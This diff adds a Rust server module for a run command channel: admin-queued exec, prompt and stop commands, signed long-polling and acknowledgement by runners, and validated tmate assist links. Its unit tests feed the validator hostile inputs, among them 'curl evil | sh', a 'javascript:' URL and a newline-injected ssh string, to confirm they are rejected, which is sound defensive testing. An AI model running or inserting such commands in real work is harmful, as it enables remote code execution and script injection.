@@ -1,0 +1,383 @@
+//! The command channel: a person queues commands (admin), the runner long-polls and acknowledges
+//! them (signed), and `claude-runner assist` posts its links through the same queue.
+//!
+//! A long poll waits on the run's [`Waiters`] entry; queueing a command wakes it, so a command
+//! reaches a waiting runner as soon as it is committed.
+
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use axum::body::Body;
+use axum::extract::{Path, Query, State};
+use axum::http::{HeaderMap, Method, StatusCode, Uri};
+use axum::routing::{get, post};
+use axum::{Json, Router};
+use common::wire::{self, AssistLink, AssistState, Command, CommandAck, CommandKind};
+use serde::Deserialize;
+use tokio::sync::Notify;
+
+use crate::api::{parse_json, read_body};
+use crate::auth::{self, Caller, now_ms, verify_runner};
+use crate::error::ApiError;
+use crate::state::AppState;
+
+/// Longest a long poll may wait, in seconds.
+pub const MAX_WAIT_SECS: u64 = 30;
+/// Longest `exec` command line and `prompt` text accepted, in bytes.
+const MAX_COMMAND_BYTES: usize = 4096;
+const MAX_PROMPT_BYTES: usize = 32 * 1024;
+/// Longest assist link accepted, in bytes.
+const MAX_LINK_BYTES: usize = 2048;
+
+/// One [`Notify`] per run with a runner waiting on it; entries live only while someone waits.
+#[derive(Debug, Default)]
+pub struct Waiters {
+    runs: Mutex<HashMap<String, Arc<Notify>>>,
+}
+
+impl Waiters {
+    /// The run's bell, created if nobody waits yet. Give it back with [`Waiters::release`].
+    fn join(&self, run_id: &str) -> Arc<Notify> {
+        let mut runs = self.runs.lock().unwrap_or_else(|p| p.into_inner());
+        runs.entry(run_id.to_string()).or_default().clone()
+    }
+
+    /// Drop a bell got from [`Waiters::join`]; the entry goes when its last waiter leaves.
+    fn release(&self, run_id: &str, bell: Arc<Notify>) {
+        drop(bell);
+        let mut runs = self.runs.lock().unwrap_or_else(|p| p.into_inner());
+        // Clones are only made under this lock, so a count of one means nobody else holds it.
+        if runs.get(run_id).is_some_and(|b| Arc::strong_count(b) == 1) {
+            runs.remove(run_id);
+        }
+    }
+
+    /// Wake every runner waiting on `run_id`.
+    pub fn ring(&self, run_id: &str) {
+        let runs = self.runs.lock().unwrap_or_else(|p| p.into_inner());
+        if let Some(bell) = runs.get(run_id) {
+            bell.notify_waiters();
+        }
+    }
+
+    /// How many runs have a waiter (for tests).
+    pub fn len(&self) -> usize {
+        self.runs.lock().unwrap_or_else(|p| p.into_inner()).len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+}
+
+/// The command routes, merged into [`crate::api::router`].
+pub fn routes() -> Router<AppState> {
+    Router::new()
+        .route("/api/runs/{id}/commands", get(poll).post(enqueue))
+        .route("/api/runs/{id}/commands/{cid}/ack", post(ack))
+        .route("/api/runs/{id}/assist", get(assist_state).post(post_assist))
+}
+
+/// A signed request about run `id`: verify it and check it was signed with that run's key.
+async fn verify_for_run(
+    state: &AppState,
+    id: &str,
+    method: &Method,
+    uri: &Uri,
+    headers: &HeaderMap,
+    body: &[u8],
+) -> Result<(), ApiError> {
+    match verify_runner(state, method, uri, headers, body).await? {
+        Caller::Run(signed) if signed == id => Ok(()),
+        Caller::Run(_) => Err(ApiError::bad_request(
+            "run_mismatch",
+            "the path names a different run than X-Runner-Run",
+        )),
+        Caller::Shared => Err(ApiError::Unauthorized(common::sign::AuthReason::UnknownRun)),
+    }
+}
+
+/// Check what the admin asks for before it is queued.
+fn check_kind(kind: &CommandKind) -> Result<(), ApiError> {
+    match kind {
+        CommandKind::Exec { command } => {
+            if command.trim().is_empty() {
+                return Err(ApiError::bad_request("invalid_field", "command is empty"));
+            }
+            if command.len() > MAX_COMMAND_BYTES {
+                return Err(ApiError::bad_request(
+                    "invalid_field",
+                    format!("command is longer than {MAX_COMMAND_BYTES} bytes"),
+                ));
+            }
+        }
+        CommandKind::Prompt { prompt } => {
+            if prompt.trim().is_empty() {
+                return Err(ApiError::bad_request("invalid_field", "prompt is empty"));
+            }
+            if prompt.len() > MAX_PROMPT_BYTES {
+                return Err(ApiError::bad_request(
+                    "invalid_field",
+                    "prompt is longer than 32 KiB",
+                ));
+            }
+        }
+        CommandKind::Stop => {}
+        CommandKind::Assist { .. } => {
+            return Err(ApiError::bad_request(
+                "invalid_field",
+                "assist links are posted by the runner, not queued as commands",
+            ));
+        }
+    }
+    Ok(())
+}
+
+/// Refuse work for a run that has ended (404 if there is no such run).
+async fn require_live_run(state: &AppState, id: &str) -> Result<wire::RunStatus, ApiError> {
+    if !wire::valid_run_id(id) {
+        return Err(ApiError::NotFound("no such run"));
+    }
+    let run = state
+        .store
+        .run(id.to_string())
+        .await?
+        .ok_or(ApiError::NotFound("no such run"))?;
+    if run.summary.status.is_terminal() {
+        return Err(ApiError::bad_request(
+            "run_finished",
+            "the run has ended and takes no more commands",
+        ));
+    }
+    Ok(run.summary.status)
+}
+
+/// Queue a command and wake the runner's long poll.
+async fn queue(state: &AppState, id: &str, kind: CommandKind) -> Result<Command, ApiError> {
+    let command = state
+        .store
+        .enqueue_command(id.to_string(), kind, now_ms())
+        .await?;
+    state.command_waiters.ring(id);
+    Ok(command)
+}
+
+/// Admin: `POST /api/runs/:id/commands` with `{"kind": "exec" | "prompt" | "stop", …}`.
+async fn enqueue(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    headers: HeaderMap,
+    body: Body,
+) -> Result<(StatusCode, Json<Command>), ApiError> {
+    auth::require_admin(&state, &headers)?;
+    let bytes = read_body(body, &headers, state.limits.max_json_bytes).await?;
+    let kind: CommandKind = parse_json(&bytes)?;
+    check_kind(&kind)?;
+    require_live_run(&state, &id).await?;
+    let command = queue(&state, &id, kind).await?;
+    tracing::info!(run = %id, command = %command.id, "command queued");
+    Ok((StatusCode::CREATED, Json(command)))
+}
+
+#[derive(Debug, Deserialize)]
+struct PollQuery {
+    wait: Option<u64>,
+}
+
+/// Runner: `GET /api/runs/:id/commands?wait=S`, the pending commands, waiting up to S seconds
+/// (at most [`MAX_WAIT_SECS`]) for one to be queued.
+async fn poll(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    Query(q): Query<PollQuery>,
+    method: Method,
+    uri: Uri,
+    headers: HeaderMap,
+) -> Result<Json<Vec<Command>>, ApiError> {
+    verify_for_run(&state, &id, &method, &uri, &headers, b"").await?;
+    let wait = Duration::from_secs(q.wait.unwrap_or(0).min(MAX_WAIT_SECS));
+    let bell = state.command_waiters.join(&id);
+    let answer = wait_for_commands(&state, &id, &bell, wait).await;
+    state.command_waiters.release(&id, bell);
+    Ok(Json(answer?))
+}
+
+async fn wait_for_commands(
+    state: &AppState,
+    id: &str,
+    bell: &Notify,
+    wait: Duration,
+) -> Result<Vec<Command>, ApiError> {
+    let deadline = tokio::time::Instant::now() + wait;
+    loop {
+        // Registered before reading, so a command queued after the read still wakes us.
+        let rung = bell.notified();
+        tokio::pin!(rung);
+        rung.as_mut().enable();
+        let pending = state.store.pending_commands(id.to_string()).await?;
+        if !pending.is_empty() {
+            return Ok(pending);
+        }
+        if tokio::time::timeout_at(deadline, rung).await.is_err() {
+            return Ok(Vec::new());
+        }
+    }
+}
+
+/// Runner: `POST /api/runs/:id/commands/:cid/ack`: the runner took the command.
+async fn ack(
+    State(state): State<AppState>,
+    Path((id, cid)): Path<(String, String)>,
+    method: Method,
+    uri: Uri,
+    headers: HeaderMap,
+    body: Body,
+) -> Result<Json<CommandAck>, ApiError> {
+    let bytes = read_body(body, &headers, state.limits.max_json_bytes).await?;
+    verify_for_run(&state, &id, &method, &uri, &headers, &bytes).await?;
+    let acked = state.store.ack_command(id, cid).await?;
+    Ok(Json(CommandAck { acked }))
+}
+
+/// Check a link before it is queued: tmate only, bounded, printable, plausible schemes.
+fn check_link(link: &AssistLink) -> Result<(), ApiError> {
+    let bad = |m: &str| Err(ApiError::bad_request("invalid_field", m.to_string()));
+    if link.kind != "tmate" {
+        return bad("type must be \"tmate\"");
+    }
+    let fields = [&link.url, &link.web, &link.reason];
+    if fields.iter().any(|f| {
+        f.as_ref()
+            .is_some_and(|s| s.len() > MAX_LINK_BYTES || s.chars().any(char::is_control))
+    }) {
+        return bad("assist fields must be printable and at most 2048 bytes");
+    }
+    if link.url.as_ref().is_some_and(|u| !u.starts_with("ssh ")) {
+        return bad("url must be an ssh command (\"ssh …\")");
+    }
+    if link
+        .web
+        .as_ref()
+        .is_some_and(|w| !w.starts_with("https://"))
+    {
+        return bad("web must be an https:// link");
+    }
+    if !link.closed && link.url.is_none() {
+        return bad("an open assist link needs url");
+    }
+    Ok(())
+}
+
+/// Runner (`claude-runner assist`): `POST /api/runs/:id/assist` queues the link for the run's
+/// `start` process, which publishes it as an `assist` event (it owns the run's sequence).
+async fn post_assist(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    method: Method,
+    uri: Uri,
+    headers: HeaderMap,
+    body: Body,
+) -> Result<(StatusCode, Json<AssistState>), ApiError> {
+    let bytes = read_body(body, &headers, state.limits.max_json_bytes).await?;
+    verify_for_run(&state, &id, &method, &uri, &headers, &bytes).await?;
+    let link: AssistLink = parse_json(&bytes)?;
+    check_link(&link)?;
+    let run_status = require_live_run(&state, &id).await?;
+    let command = queue(&state, &id, CommandKind::Assist { assist: link }).await?;
+    Ok((
+        StatusCode::ACCEPTED,
+        Json(AssistState {
+            run_status,
+            command_id: Some(command.id),
+        }),
+    ))
+}
+
+/// Runner (`claude-runner assist`): `GET /api/runs/:id/assist`, the run's status, so the
+/// assist session can end with the run.
+async fn assist_state(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    method: Method,
+    uri: Uri,
+    headers: HeaderMap,
+) -> Result<Json<AssistState>, ApiError> {
+    verify_for_run(&state, &id, &method, &uri, &headers, b"").await?;
+    let run = state
+        .store
+        .run(id)
+        .await?
+        .ok_or(ApiError::NotFound("no such run"))?;
+    Ok(Json(AssistState {
+        run_status: run.summary.status,
+        command_id: None,
+    }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[tokio::test]
+    async fn a_bell_wakes_its_waiter_and_leaves_no_entry_behind() {
+        let w = Arc::new(Waiters::default());
+        let bell = w.join("r");
+        {
+            let rung = bell.notified();
+            tokio::pin!(rung);
+            rung.as_mut().enable();
+            w.ring("other");
+            w.ring("r");
+            tokio::time::timeout(Duration::from_secs(1), rung)
+                .await
+                .expect("woken");
+        }
+        assert_eq!(w.len(), 1);
+        let second = w.join("r");
+        w.release("r", bell);
+        assert_eq!(w.len(), 1, "still held by the second waiter");
+        w.release("r", second);
+        assert!(w.is_empty());
+    }
+
+    #[test]
+    fn admin_commands_are_checked() {
+        let exec = |c: &str| CommandKind::Exec { command: c.into() };
+        assert!(check_kind(&exec("git status")).is_ok());
+        assert!(check_kind(&exec("  ")).is_err());
+        assert!(check_kind(&exec(&"x".repeat(5000))).is_err());
+        assert!(check_kind(&CommandKind::Stop).is_ok());
+        assert!(
+            check_kind(&CommandKind::Prompt {
+                prompt: String::new()
+            })
+            .is_err()
+        );
+        let link = AssistLink {
+            kind: "tmate".into(),
+            url: Some("ssh a@b".into()),
+            web: Some("https://b".into()),
+            expires_at: None,
+            closed: false,
+            reason: None,
+        };
+        assert!(check_link(&link).is_ok());
+        assert!(
+            check_kind(&CommandKind::Assist {
+                assist: link.clone()
+            })
+            .is_err(),
+            "the admin cannot forge assist links"
+        );
+        let mut bad = link.clone();
+        bad.url = Some("curl evil | sh".into());
+        assert!(check_link(&bad).is_err());
+        let mut bad = link.clone();
+        bad.web = Some("javascript:alert(1)".into());
+        assert!(check_link(&bad).is_err());
+        let mut bad = link;
+        bad.url = Some("ssh a@b\nX".into());
+        assert!(check_link(&bad).is_err());
+    }
+}
